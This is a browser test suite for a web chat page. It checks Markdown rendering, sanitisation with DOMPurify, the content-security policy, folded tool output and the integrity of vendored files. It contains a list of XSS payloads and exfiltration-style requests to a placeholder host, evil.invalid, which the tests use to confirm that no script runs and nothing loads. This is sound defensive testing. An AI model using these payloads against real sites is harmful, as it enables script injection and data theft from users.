"""The messages of the page of `examples/web`: Markdown, hostile content, and folded parts."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlsplit

import pytest

from flux0.testing import CallTool, FakeTransport, Gate, GiveResult, Reason, Say
from support.browser import Page
from support.chat_page import ask, piece, reload, send, wait_for_text
from support.npm import npm_install
from support.programs import needs

pytestmark = [
    needs("chromium"),
]

VENDOR = Path(__file__).parents[2] / "examples/web/static/vendor"
MARKDOWN = """# Plan

Take **bold** steps, [slowly][1]: `a < b`
and on the next line.

- first
  1. nested
- [x] done

| hour | °C |
| --- | ---: |
| 9 | **16** |

```py
if a < b:
    print("<b>")
```

3. third

[1]: https://example.com
"""
# Each message tries to run a script or to load something.
HOSTILE = (
    "<script>window.pwned = 1</script>",
    "<img src=https://evil.invalid/a.png onerror=window.pwned=1>",
    "<svg onload=window.pwned=1><use href='https://evil.invalid/a.svg#a'></use></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<style>@import 'https://evil.invalid/a.css';</style><base href=https://evil.invalid/>",
    "<form action=https://evil.invalid/><button>Log in</button></form>",
    "<input autofocus onfocus=window.pwned=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></table></math>",
    "![secret](https://evil.invalid/?secret)",
    "[click](javascript:window.pwned=1) [click](  JaVaScRiPt&colon;window.pwned=1)",
    "[click](data:text/html;base64,PHNjcmlwdD4=) <javascript:window.pwned=1> <vbscript:x>",
    '[a](https://example.com "\\" onmouseover=\\"window.pwned=1") ![a](x"onerror="window.pwned=1)',
    '```"><img/src/onerror=window.pwned=1>\n</code></pre><img src=x onerror=window.pwned=1>\n```',
    "| <img src=x onerror=pwned=1> | `</code><img src=x onerror=pwned=1>` |\n| - | - |",
    "# <a href=javascript:window.pwned=1 style=position:fixed>x</a>",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "[x]: javascript:window.pwned=1\n\n[click][x] <div id=chat><a id=send name=form>",
)
# Elements and attributes that Markdown without HTML does not need, and URLs of other schemes.
FOUND = """[
  ...[...document.querySelectorAll("body *")].filter(({ localName }) =>
    ["script", "img", "svg", "math", "iframe", "style", "base", "input"].includes(localName)),
  ...[...document.querySelectorAll("#chat *")].filter((element) => element.getAttributeNames()
    .some((name) => !["class", "href", "target", "rel", "align", "start"].includes(name))),
  ...[...document.querySelectorAll("#chat a[href]")].filter(({ href, rel }) =>
    !/^https?:/.test(href) || rel !== "noopener noreferrer"),
].map(({ outerHTML }) => outerHTML)"""


def test_markdown_is_shown_also_after_a_reload(page: Page, fake: FakeTransport) -> None:
    fake.script([Say(MARKDOWN, pieces=len(MARKDOWN) // 2)])
    ask(page, "Hi")

    html = "document.querySelector('.text .content').innerHTML"
    shown = page.evaluate(html)
    for selector, text in {
        "h3.depth1": "Plan",
        "p strong": "bold",
        "p a[href='https://example.com']": "slowly",
        "p code": "a < b",
        "li ol li": "nested",
        "ul > li:last-child": "☑ done",
        "th[align=right]": "°C",
        "ol[start='3'] li": "third",
        "td strong": "16",
        "pre code": 'if a < b:\n    print("<b>")\n',
    }.items():
        assert page.evaluate(f"document.querySelector(`.text {selector}`)?.textContent") == text
    reload(page)
    wait_for_text(page, "user", "Hi")
    assert page.evaluate(html) == shown


def test_copy_button_copies_the_code(page: Page, fake: FakeTransport) -> None:
    fake.script([Say(MARKDOWN)])
    ask(page, "Hi")
    page.grant("clipboardReadWrite", "clipboardSanitizedWrite")

    page.click(".copy")

    page.wait_for("document.querySelector('.copy').textContent === 'Copied'")
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied == 'if a < b:\n    print("<b>")\n'


@pytest.mark.parametrize(
    ("start", "selector", "end"),
    [
        ("# One", "h3", "\n\nTwo"),
        ("One **two", "p", "** three"),
        ("- one\n- two", "li", " three\n- four"),
        ("| a |\n| - |\n| one |\n| two", "td", " three |"),
        ("```\none\ntwo", "code", "three\n```\n\n[a]: https://example.com"),
        ("One [two][1]", "p", "\n\n[1]: https://example.com"),
    ],
)
def test_selection_survives_the_next_piece(
    start: str, selector: str, end: str, page: Page, fake: FakeTransport
) -> None:
    gate = Gate()
    fake.script([Reason("Hm"), piece(start), gate, piece(end)])
    send(page, "Hi")
    page.wait_for(f"document.querySelector('.text {selector}')")
    page.evaluate(
        f"window.first = document.querySelector('.text {selector}').firstChild;"
        "getSelection().setBaseAndExtent(first, 0, first, 3); window.before = `${getSelection()}`;"
        "window.block = document.querySelector('.text .content').firstChild;"
    )
    assert page.evaluate("before").lower() == "one"

    gate.open()

    page.wait_for("!document.getElementById('send').disabled")
    assert page.evaluate("`${getSelection()}` === before")
    assert page.evaluate("first.isConnected && block.isConnected")


def test_link_is_shown_when_its_definition_arrives(page: Page, fake: FakeTransport) -> None:
    gate = Gate()
    fake.script([piece("One [two][1]"), gate, piece("\n\n[1]: https://example.com")])
    send(page, "Hi")
    wait_for_text(page, "text", "One [two][1]")
    gate.open()
    wait_for_text(page, "text", "One two")
    assert page.evaluate("document.querySelector('.text a').href") == "https://example.com/"


@pytest.mark.parametrize("has_policy", [True, False])
def test_hostile_content_runs_no_script_and_loads_nothing(
    has_policy: bool, page: Page, fake: FakeTransport, url: str
) -> None:
    """Without the policy, only the cleaned Markdown protects the user."""
    page.call("Page.setBypassCSP", enabled=not has_policy)
    page.open(url)
    assert page.evaluate("typeof pwned") == "undefined"
    tool = CallTool("<img src=x onerror=window.pwned=1>", {"city": HOSTILE})
    messages = [Say(hostile, pieces=-(-len(hostile) // 3)) for hostile in HOSTILE]
    fake.script([Reason("\n".join(HOSTILE)), tool, GiveResult(tool, HOSTILE), *messages])
    ask(page, HOSTILE[1])

    for _ in range(2):
        assert page.evaluate("document.querySelectorAll('.text').length") == len(HOSTILE)
        assert page.evaluate(FOUND) == []
        assert page.evaluate("typeof pwned") == "undefined"
        assert page.hosts == {urlsplit(url).netloc}
        reload(page)


def test_policy_rejects_scripts_in_the_page_and_other_hosts(page: Page) -> None:
    page.evaluate(
        "window.violated = [];"
        "addEventListener('securitypolicyviolation', (event) => {"
        " violated.push(event.effectiveDirective); document.title = violated.length; }); null"
    )
    for attempt in (
        "document.body.append(Object.assign(new Image(), {src: 'https://evil.invalid/'}))",
        "import('https://evil.invalid/a.js').catch(() => null)",
        "fetch('https://evil.invalid/').catch(() => null)",
        "document.body.setAttribute('style', 'color: red')",
        "try { document.body.innerHTML = '<b>'; } catch {}",
    ):
        page.evaluate(f"{attempt}; null")
    page.wait_for("violated.length >= 5")
    assert sorted(page.evaluate("violated")) == [
        "connect-src",
        "img-src",
        "require-trusted-types-for",
        "script-src-elem",
        "style-src-attr",
    ]


def test_tools_and_reasoning_are_folded_and_stay_unfolded(page: Page, fake: FakeTransport) -> None:
    gate, tool = Gate(), CallTool("search", {"for": "a"})
    result = {f"key{number}": number for number in range(80)}
    fake.script([Reason("Hm\nso"), tool, GiveResult(tool, result), piece("a"), gate, piece("b")])
    send(page, "Hi")
    wait_for_text(page, "text", "a")

    summaries = page.evaluate(
        "[...document.querySelectorAll('#chat summary')].map((each) => each.innerText)"
    )
    assert summaries[:2] == ["Thinking: Hm so", 'Tool call: search({ "for": "a" })']
    assert summaries[2].startswith('Tool result: { "key0": 0, "key1"')
    height = "document.querySelector('.tool_result').offsetHeight"
    assert page.evaluate(height) < 40
    page.click(".tool_result summary")
    page.wait_for("document.querySelector('.tool_result details').open")
    assert page.evaluate(height) > 1000
    gate.open()
    wait_for_text(page, "text", "ab")
    assert page.evaluate("document.querySelector('.tool_result details').open")


def test_messages_have_the_name_of_their_author_and_a_time(page: Page, fake: FakeTransport) -> None:
    """The fake server's clock begins on 2026-01-01."""
    ask(page, "Hi")
    headings = "[...document.querySelectorAll('#chat h2')].map((each) => each.innerText)"
    for _ in range(2):
        user, agent = page.evaluate(headings)
        assert user.startswith("You · ")
        assert agent.startswith("Fake · 1/1/26, ")
        reload(page)
    assert page.evaluate(headings)[0].startswith("You · 1/1/26, ")


@needs("npm")
def test_vendored_files_are_the_files_of_their_packages(tmp_path: Path) -> None:
    npm_install("marked@18.2.1", "dompurify@3.5.0", folder=tmp_path)
    packages = tmp_path / "node_modules"
    files = {
        "marked-18.2.1.js": "marked/lib/marked.esm.js",
        "marked-18.2.1.LICENSE": "marked/LICENSE",
        "dompurify-3.5.0.js": "dompurify/dist/purify.es.mjs",
        "dompurify-3.5.0.LICENSE": "dompurify/LICENSE",
    }
    assert {path.name for path in VENDOR.iterdir()} == {*files, "README.md"}
    for name, original in files.items():
        assert (VENDOR / name).read_bytes() == (packages / original).read_bytes(), name
    readme = (VENDOR / "README.md").read_text("utf-8")
    assert all(f"`{name}`" in readme for name in files)
